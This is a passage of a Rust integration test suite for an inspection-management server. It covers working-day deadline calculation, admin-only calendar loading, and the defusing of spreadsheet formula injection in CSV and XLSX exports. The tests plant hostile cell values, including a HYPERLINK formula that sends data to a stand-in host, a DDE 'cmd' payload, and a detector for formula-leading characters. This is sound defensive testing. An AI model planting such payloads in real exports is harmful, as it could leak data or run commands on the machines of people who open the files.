    // Friday (22–25, 28–31 December, 1, 4–8, 11–15, 18 January).
    let id = autumn_records[0].id.clone();
    let (mut a, mut b) = phones(&server, &autumn_records[0]).await;
    fill(
        a.doc(&id).unwrap(),
        "现场核查",
        &[ResultCategory::NoProblem],
        None,
    );
    sync(&mut a, &server);
    sync(&mut b, &server);
    sync(&mut a, &server);
    a.sign(&id).unwrap();
    sync(&mut a, &server);
    sync(&mut b, &server);
    b.sign(&id).unwrap();
    sync(&mut b, &server);
    sync(&mut a, &server);
    let me = a.inspector_id();
    a.doc(&id).unwrap().submit(&me).unwrap();
    backdate_submission(a.doc(&id).unwrap(), "2026-12-21T02:00:00Z");
    sync(&mut a, &server);
    let (_, due) = supervisor
        .get("/api/v1/deadlines?within_days=20&as_of=2026-12-22")
        .await;
    let entry = due["due_soon"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["record_id"] == id.as_str())
        .unwrap_or_else(|| panic!("{due}"))
        .clone();
    assert_eq!(entry["counted_from"], "2026-12-21");
    assert_eq!(entry["deadline"], "2027-01-18");
    assert_eq!(entry["working_days_left"], 19);
    assert_eq!(entry["provisional"], true);
    assert_eq!(entry["unscheduled_years"], json!([2027]));
    let (_, view) = supervisor.get(&format!("/api/v1/records/{id}")).await;
    assert_eq!(view["publication"]["deadline"], "2027-01-18", "{view}");
    assert_eq!(view["publication"]["provisional"], true, "{view}");

    // Loading 2027 makes it final, a day later for New Year's Day: 22–25,
    // 28–31 December, 4–8, 11–15, 18, 19 January.
    let admin = server.login("admin").await;
    let (s, body) = admin.post("/api/v1/admin/calendar", &year_2027()).await;
    assert_eq!(s, StatusCode::CREATED, "{body}");
    let (_, due) = supervisor
        .get("/api/v1/deadlines?within_days=20&as_of=2026-12-22")
        .await;
    let entry = due["due_soon"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["record_id"] == id.as_str())
        .unwrap_or_else(|| panic!("{due}"))
        .clone();
    assert_eq!(entry["deadline"], "2027-01-19");
    assert_eq!(entry["working_days_left"], 19);
    assert_eq!(entry["provisional"], false);
    let (_, queue) = supervisor.get("/api/v1/review/queue").await;
    assert_eq!(queue["items"][0]["inspection_ended_on"], "2026-12-21");
}

#[tokio::test]
async fn calendar_load_is_admin_only_checked_and_persists_across_restart() {
    let server = TestServer::start().await;
    let admin = server.login("admin").await;
    let supervisor = server.login("supervisor").await;
    let (s, _) = supervisor
        .post("/api/v1/admin/calendar", &year_2027())
        .await;
    assert_eq!(s, StatusCode::FORBIDDEN);
    let (s, err) = admin
        .post(
            "/api/v1/admin/calendar",
            &json!({"year": 2027, "days": [{"date": "soon"}]}),
        )
        .await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{err}");
    let (_, years) = supervisor.get("/api/v1/calendar").await;
    assert!(!text(&years).contains("2027"), "{years}");
    assert!(
        server
            .state
            .calendar()
            .is_working_day("2027-01-04".parse().unwrap())
            .is_err()
    );

    let (s, body) = admin.post("/api/v1/admin/calendar", &year_2027()).await;
    assert_eq!(s, StatusCode::CREATED, "{body}");
    assert_eq!(body["year"], 2027);
    let (_, years) = supervisor.get("/api/v1/calendar").await;
    let list = years["years"].as_array().unwrap();
    assert_eq!(list.first().unwrap()["year"], 2019);
    assert_eq!(list.last().unwrap()["year"], 2027);
    assert_eq!(list.last().unwrap()["source"], "loaded");
    assert_eq!(list[0]["source"], "shipped");
    let cal = server.state.calendar();
    assert!(!cal.is_working_day("2027-01-01".parse().unwrap()).unwrap());
    assert!(cal.is_working_day("2027-01-04".parse().unwrap()).unwrap());

    // Restart: a fresh state opened over the same data directory has 2027.
    let dir = server.dir.path().to_owned();
    let reopened = suiji_server::open(suiji_tests::test_config(&dir)).unwrap();
    let cal = reopened.calendar();
    assert!(cal.years().any(|y| y == 2027));
    assert!(!cal.is_working_day("2027-01-01".parse().unwrap()).unwrap());
    assert_eq!(
        cal.add_working_days("2026-12-31".parse().unwrap(), 1)
            .unwrap()
            .to_string(),
        "2027-01-04"
    );
}

/// Whether a CSV field would be run as a formula by Excel or WPS: it starts with one of
/// `= + - @` (or their full-width forms), possibly after tabs, carriage returns or spaces.
fn runs_as_formula(field: &str) -> bool {
    field
        .trim_start_matches(['\t', '\r', ' '])
        .starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
}

#[tokio::test]
async fn exports_defuse_names_that_would_run_as_formulas_in_a_spreadsheet() {
    const TASK_NAME: &str = r#"=HYPERLINK("http://evil.example/?x="&A1,"点击")"#;
    const TARGET_NAME: &str = "+cmd|' /C calc'!A0";
    const DEPARTMENT_NAME: &str = "@SUM(1+1)";
    let server = TestServer::start().await;
    let agency = seed_agency(&server, 3, 30).await;
    let planner = server.login("planner").await;
    let supervisor = server.login("supervisor").await;
    // Every target in the task's scope gets a hostile name before the draw, which
    // keeps the names the records are drawn under.
    let (_, page) = planner
        .get("/api/v1/targets?risk_class=A&per_page=100")
        .await;
    for (n, stored) in page["items"].as_array().unwrap().iter().enumerate() {
        let mut target = json!({});
        for field in [
            "uscc",
            "target_type",
            "industry",
            "region",
            "address",
            "legal_rep",
            "reg_status",
            "risk_class",
            "flag_abnormal",
            "flag_serious",
            "complaints",
        ] {
            target[field] = stored[field].clone();
        }
        target["name"] = json!(format!("{TARGET_NAME}{n}"));
        let (s, body) = planner
            .put(&format!("/api/v1/targets/{}", stored["id"]), &target)
            .await;
        assert_eq!(s, StatusCode::OK, "{body}");
    }
    let task_id = make_task(
        &planner,
        agency.plan_id,
        "-1+1",
        json!({"count": 1, "name": TASK_NAME}),
    )
    .await;
    let record = draw(&server, &planner, task_id).await.remove(0);
    suiji_tests::publish_drawn_list(&planner, task_id).await;
    // Department names come from the agency's own setup; no route renames one.
    server
        .state
        .db
        .write(|tx| {
            tx.execute(
                "UPDATE departments SET name = ?1 WHERE code = 'SCJG'",
                [DEPARTMENT_NAME],
            )?;
            Ok(())
        })
        .await
        .unwrap();

    let id = record.id.clone();
    let (mut a, mut b) = phones(&server, &record).await;
    fill(
        a.doc(&id).unwrap(),
        "现场核查",
        &[ResultCategory::NoProblem],
        None,
    );
    sign_and_submit(&server, &mut a, &mut b, &id).await;
    let (s, body) = supervisor
        .post(&format!("/api/v1/records/{id}/approve"), &json!({}))
        .await;
    assert_eq!(s, StatusCode::OK, "{body}");
    let (s, outcome) = supervisor
        .post(
            &format!("/api/v1/tasks/{task_id}/publish-results"),
            &json!({}),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{outcome}");

    // The JSON export keeps the names exactly as they are.
    let anonymous = Client::anonymous(&server.base);
    let (_, exported) = anonymous
        .get(&format!("/api/v1/public/tasks/{task_id}/results.json"))
        .await;
    let text = exported.to_string();
    assert!(text.contains(TARGET_NAME), "{text}");

    let csv_of = |bytes: &[u8]| -> Vec<Vec<String>> {
        assert_eq!(&bytes[..3], b"\xEF\xBB\xBF", "UTF-8 byte-order mark");
        csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(&bytes[3..])
            .records()
            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
            .collect()
    };
    let bytes = reqwest::get(format!(
        "{}/api/v1/public/tasks/{task_id}/results.csv",
        server.base
    ))
    .await
    .unwrap()
    .bytes()
    .await
    .unwrap();
    let results = csv_of(&bytes);
    let stats_response = supervisor
        .raw(
            reqwest::Method::GET,
            &format!(
                "/api/v1/stats?year={}&format=csv",
                &suiji_server::review::china_today().to_string()[..4]
            ),
        )
        .send()
        .await
        .unwrap();
    assert_eq!(stats_response.status(), StatusCode::OK);
    let stats = csv_of(&stats_response.bytes().await.unwrap());

    for (export, rows, hostile) in [
        ("results", &results, &[TASK_NAME, TARGET_NAME, "-1+1"][..]),
        ("statistics", &stats, &[DEPARTMENT_NAME][..]),
    ] {
        let fields: Vec<&String> = rows.iter().flatten().collect();
        for name in hostile {
            assert!(
                fields.iter().any(|f| f.starts_with(&format!("'{name}"))),
                "{export} CSV holds {name} behind an apostrophe: {rows:?}"
            );
        }
        let live: Vec<&&String> = fields.iter().filter(|f| runs_as_formula(f)).collect();
        assert!(
            live.is_empty(),
            "{export} CSV cells that would run: {live:?}"
        );
    }

    // The same exports as XLSX keep every name exactly as entered, as text: no cell is a
    // formula. The header is frozen and the sheet named in Chinese.
    let results_xlsx = reqwest::get(format!(
        "{}/api/v1/public/tasks/{task_id}/results.xlsx",
        server.base
    ))
    .await
    .unwrap();
    assert_eq!(results_xlsx.status(), StatusCode::OK);
    assert_eq!(
        results_xlsx.headers()["content-type"],
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    );
    let results_xlsx = results_xlsx.bytes().await.unwrap().to_vec();
    let stats_xlsx = supervisor
        .raw(
            reqwest::Method::GET,
            &format!(
                "/api/v1/stats?year={}&format=xlsx",
                &suiji_server::review::china_today().to_string()[..4]
            ),
        )
        .send()
        .await
        .unwrap()
        .bytes()
        .await
        .unwrap()
        .to_vec();
    let queue_xlsx = supervisor
        .raw(
            reqwest::Method::GET,
            "/api/v1/review/queue?status=all&format=xlsx",
        )
        .send()
        .await
        .unwrap()
        .bytes()
        .await
        .unwrap()
        .to_vec();
    for (export, bytes, sheet, header, hostile) in [
        (
            "review queue",
            &queue_xlsx,
            "审核队列",
            "任务编号",
            &[TASK_NAME, TARGET_NAME][..],
        ),
        (
            "results",
            &results_xlsx,
            "抽查结果",
            "抽查计划编号",
            &[TASK_NAME, TARGET_NAME, "-1+1"][..],
        ),
        (
            "statistics",
            &stats_xlsx,
            "抽查统计",
            "部门代码",
            &[DEPARTMENT_NAME][..],
        ),
    ] {
        use calamine::Reader;
        let mut book: calamine::Xlsx<_> =
            calamine::open_workbook_from_rs(std::io::Cursor::new(bytes.clone())).unwrap();
        assert_eq!(book.sheet_names(), vec![sheet.to_owned()], "{export}");
        let range = book.worksheet_range(sheet).unwrap();
        let cells: Vec<String> = range.cells().map(|(_, _, c)| c.to_string()).collect();
        assert_eq!(cells[0], header, "{export}");
        for name in hostile {
            assert!(
                cells.iter().any(|c| c.starts_with(name)),
                "{export} XLSX holds {name} as entered: {cells:?}"
            );
        }
        let formulas = book.worksheet_formula(sheet).unwrap();
        assert!(
            formulas.cells().all(|(_, _, f)| f.is_empty()),
            "{export} XLSX has no formula cell"
        );
        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes.clone())).unwrap();
        let mut xml = String::new();
        std::io::Read::read_to_string(
            &mut zip.by_name("xl/worksheets/sheet1.xml").unwrap(),
            &mut xml,
        )
        .unwrap();
        assert!(
            xml.contains("state=\"frozen\"") && xml.contains("topLeftCell=\"A2\""),
            "{export}: the header row is frozen"
        );
    }
    // The public draw page of the task links its published results as files anyone may fetch.
    let (s, draws) = anonymous.get("/api/v1/public/draws").await;
    assert_eq!(s, StatusCode::OK, "{draws}");
    let draw = draws
        .as_array()
        .or(draws["items"].as_array())
        .into_iter()
        .flatten()
        .find(|d| d["task_id"] == task_id)
        .unwrap_or_else(|| panic!("the task's draw is listed: {draws}"));
    let (s, html) =
        suiji_tests::console_page(&server, "", &format!("/public/draws/{}", draw["id"])).await;
    assert_eq!(s, StatusCode::OK);
    assert!(
        html.contains(&format!(
            "href=\"/api/v1/public/tasks/{task_id}/results.xlsx\""
        )),
        "{html}"
    );

    // The console offers the same exports from its pages, on its own session.
    let jar = suiji_tests::console_session(&server, "supervisor").await;
    let year = &suiji_server::review::china_today().to_string()[..4];
    for (page, export, sheet) in [
        (
            "/stats",
            format!("/stats/export?year={year}&format=xlsx"),
            "抽查统计",
        ),
        (
            "/review?status=all",
            "/review/export?status=all&format=xlsx".to_owned(),
            "审核队列",
        ),
        (
            "/deadlines",
            "/deadlines/export?within=5&format=xlsx".to_owned(),
            "公示期限",
        ),
    ] {
        let (s, html) = suiji_tests::console_page(&server, &jar, page).await;
        assert_eq!(s, StatusCode::OK);
        let link = export.replace('&', "&amp;");
        assert!(
            html.contains(&format!("href=\"{link}\"")),
            "{page} links {export}: {html}"
        );
        let answer = suiji_tests::http()
            .get(format!("{}{export}", server.base))
            .header(reqwest::header::COOKIE, &jar)
            .send()
            .await
            .unwrap();
        assert_eq!(answer.status(), StatusCode::OK, "{export}");
        let bytes = answer.bytes().await.unwrap().to_vec();
        use calamine::Reader;
        let book: calamine::Xlsx<_> =
            calamine::open_workbook_from_rs(std::io::Cursor::new(bytes)).unwrap();
        assert_eq!(book.sheet_names(), vec![sheet.to_owned()], "{export}");
    }
    let csv = suiji_tests::http()
        .get(format!(
            "{}/review/export?status=all&format=csv",
            server.base
        ))
        .header(reqwest::header::COOKIE, &jar)
        .send()
        .await
        .unwrap()
        .bytes()
        .await
        .unwrap();
    let rows = csv_of(&csv);
    assert_eq!(rows[0][0], "任务编号");
    assert!(
        rows.iter()
            .flatten()
            .any(|f| f.starts_with(&format!("'{TARGET_NAME}"))),
        "the console's CSV is defused too: {rows:?}"
    );

    // Only staff read statistics, in any form.
    let inspector_jar = suiji_tests::console_session(&server, "inspector").await;
    for export in [
        format!("/stats/export?year={year}&format=xlsx"),
        "/review/export?status=all&format=xlsx".to_owned(),
        "/deadlines/export?format=csv".to_owned(),
    ] {
        let (s, _) = suiji_tests::console_page(&server, &inspector_jar, &export).await;
        assert_eq!(s, StatusCode::FORBIDDEN, "an inspector exports {export}");
    }
    let anonymous_export = suiji_tests::http()
        .get(format!(
            "{}/review/export?status=all&format=xlsx",
            server.base
        ))
        .send()
        .await
        .unwrap();
    assert_eq!(
        anonymous_export.status(),
        StatusCode::SEE_OTHER,
        "no session: to the login page"
    );
    let inspector = server.login("inspector").await;
    for path in [
        "/api/v1/review/queue?status=all&format=xlsx",
        "/api/v1/deadlines?format=csv",
    ] {
        assert_eq!(inspector.get(path).await.0, StatusCode::FORBIDDEN, "{path}");
    }
    let (s, body) = supervisor.get("/api/v1/review/queue?format=xls").await;
    assert_eq!(
        s,
        StatusCode::UNPROCESSABLE_ENTITY,
        "an unknown format: {body}"
    );
    let (s, _) = inspector
        .get(&format!(
            "/api/v1/stats?year={}&format=xlsx",
            &suiji_server::review::china_today().to_string()[..4]
        ))
        .await;
    assert_eq!(s, StatusCode::FORBIDDEN);
}
